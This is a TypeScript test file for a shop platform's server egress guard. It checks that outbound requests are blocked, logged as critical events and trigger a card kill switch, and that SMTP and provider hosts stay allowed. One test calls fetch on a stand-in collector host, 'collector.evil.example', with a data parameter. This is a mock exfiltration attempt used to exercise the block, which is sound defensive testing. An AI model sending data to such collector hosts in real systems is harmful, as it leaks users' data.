import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase } from '../../../test/test-database.ts';
import { loadConfig } from '../../platform/config/config.ts';
import type { Database } from '../../platform/db/database.ts';
import { EgressBlockedError } from '../../platform/egress/egress-guard.ts';
import { guardServerEgress, type ServerEgressGuard } from './egress-events.ts';

let database: Database;
let egress: ServerEgressGuard;
let shopId: string;

beforeAll(async () => {
  database = await createTestDatabase();
  shopId = String((await database.ownerExec(`INSERT INTO tenants (slug, display_name, company_name, legal) VALUES ('egr','E','E社','{}') RETURNING id`)).rows[0]!.id);
  const config = loadConfig({ APP_ENV: 'test', SMTP_URL: 'smtp://mail.oroshi.example:587', DATABASE_URL: process.env.DATABASE_URL });
  egress = await guardServerEgress({ config, database, log: pino({ level: 'silent' }) });
});
afterAll(async () => {
  egress?.stop();
  await database?.close();
});

const waitFor = async <T>(read: () => Promise<T[]>): Promise<T[]> => {
  for (let i = 0; i < 100; i++) {
    const rows = await read();
    if (rows.length) return rows;
    await new Promise((r) => setTimeout(r, 50));
  }
  return [];
};

describe('server egress', () => {
  it('a blocked request fails and raises a critical platform-wide event that stops every shop’s cards', async () => {
    await expect(fetch('https://collector.evil.example/c?d=1')).rejects.toBeInstanceOf(EgressBlockedError);
    const events = await waitFor(async () => (await database.ownerExec(`SELECT layer, severity, kind, contained_at FROM security_events WHERE layer = 'egress' AND contained_at IS NOT NULL`)).rows);
    expect(events).toMatchObject([{ layer: 'egress', severity: 'critical', kind: 'egress.blocked' }]);
    const switches = (await database.ownerExec(`SELECT tenant_id, engaged FROM card_kill_switches`)).rows;
    expect(switches).toEqual([{ tenant_id: null, engaged: true }]);
    const evidence = (await database.ownerExec(`SELECT data->>'host' AS host FROM security_evidence WHERE kind = 'egress-attempt'`)).rows;
    expect(evidence).toEqual([{ host: 'collector.evil.example' }]);
  });

  it('allows SMTP and a shop’s configured provider host (picked up on refresh), raising nothing', async () => {
    expect(egress.guard.isAllowed('mail.oroshi.example')).toBe(true);
    expect(egress.guard.isAllowed('api.psp.example')).toBe(false);
    await database.ownerExec(
      `INSERT INTO provider_accounts (tenant_id, provider, api_base_url, hosted_page_origin, secret_key_sealed) VALUES ($1, 'stripe', 'https://api.psp.example', 'https://checkout.psp.example', 'x')`,
      [shopId],
    );
    await egress.refresh();
    expect(egress.guard.isAllowed('api.psp.example')).toBe(true);
    const n = (await database.ownerExec(`SELECT count(*)::int AS n FROM security_events`)).rows[0];
    expect(n).toEqual({ n: 1 });
  });
});
